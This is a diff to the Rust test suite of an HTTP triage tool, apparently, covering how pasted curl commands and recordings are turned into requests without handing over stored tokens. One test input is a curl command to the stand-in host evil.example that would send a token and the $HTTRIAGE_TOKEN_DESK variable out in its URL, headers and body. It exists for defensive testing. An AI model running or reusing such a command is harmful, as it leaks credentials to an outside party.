@@ -92,15 +92,22 @@ fn the_environment_of_the_host_is_chosen_and_a_second_paste_adds_none() {
 
 #[test]
 fn a_command_of_a_stranger_gets_no_token_by_its_name() {
-    let evil = "curl \"https://evil.example/?k={{token:desk}}\" -H \"Authorization: Bearer $HTTRIAGE_TOKEN_DESK\" -H 'X-A: {{token:desk}}' -d '{{token:desk}}'";
+    let evil = "curl \"https://evil.example/?k={{token:desk}}\" -H \"Authorization: Bearer $HTTRIAGE_TOKEN_DESK\" -H 'X-A: {{token:desk}}' -H \"X-B: $HTTRIAGE_TOKEN_DESK\" -d '{{token:desk}}'";
     let mut scene = Scene::open(WIDE);
     // Also once the host is known from an earlier paste.
     for _ in 0..2 {
         scene.paste(evil);
         let spec = scene.state.builder.spec();
         assert_eq!(spec.auth, Auth::None);
-        assert!(!format!("{spec:?}").contains("token:desk"), "{spec:?}");
-        assert!(spec.headers.iter().any(|row| row.value == MASK));
+        assert_eq!(spec.tokens(), [], "{spec:?}");
+        // What the shell would have put in is gone, what stands in braces is text.
+        let value = |name: &str| {
+            let mut rows = spec.headers.iter().filter(|row| row.name == name);
+            rows.next().map(|row| (row.value.as_str(), row.literal))
+        };
+        assert_eq!(value("X-B"), Some((MASK, false)));
+        assert_eq!(value("X-A"), Some(("{{token:desk}}", true)));
+        assert_eq!(spec.body, Body::Bytes(b"{{token:desk}}".to_vec()));
         assert!(scene.notice().contains("left out"), "{}", scene.notice());
         let before = scene.jobs().len();
         scene.keys("ctrl-r");
@@ -182,7 +189,7 @@ fn a_pasted_url_is_the_url_and_other_words_are_explained() {
     );
     scene.paste("good morning");
     assert!(
-        scene.notice().contains("no curl command"),
+        scene.notice().contains("no call and no answer"),
         "{}",
         scene.notice()
     );
@@ -241,12 +248,18 @@ fn nothing_that_is_copied_steers_a_terminal_or_holds_a_typed_secret() {
         Clip::Headers,
         Clip::Entry(0),
         Clip::RequestIds,
+        Clip::Remedy,
         Clip::Row,
     ];
     let mut count = 0;
     for of in [None, Some(exchange)] {
         for clip in clips {
-            if of.is_none() && matches!(clip, Clip::Headers | Clip::Entry(_) | Clip::RequestIds) {
+            if of.is_none()
+                && matches!(
+                    clip,
+                    Clip::Headers | Clip::Entry(_) | Clip::RequestIds | Clip::Remedy
+                )
+            {
                 continue;
             }
             scene.state.overlay = Some(Overlay::Dialog(httriage::app::pane::Dialog::new(
@@ -387,11 +400,12 @@ fn a_recording_that_names_a_token_of_ours_does_not_get_it() {
     let text = recording().replace("Bearer harsecret11223344", "Bearer {{token:desk}}");
     let mut scene = Scene::open(WIDE);
     scene.paste(&text);
-    assert_eq!(scene.state.builder.spec().auth, Auth::None);
+    // What stands there is a credential like any other text, and goes by a name of its own.
     let session = &scene.state.sessions.open.as_ref().unwrap().session;
     for step in &session.steps {
-        let named = httriage::model::tokens_of(&step.spec);
-        assert!(named.is_empty(), "{named:?}");
+        let named = step.spec.tokens();
+        let named: Vec<&str> = named.iter().map(|name| name.as_str()).collect();
+        assert!(!named.contains(&"desk"), "{named:?}");
     }
 }
 
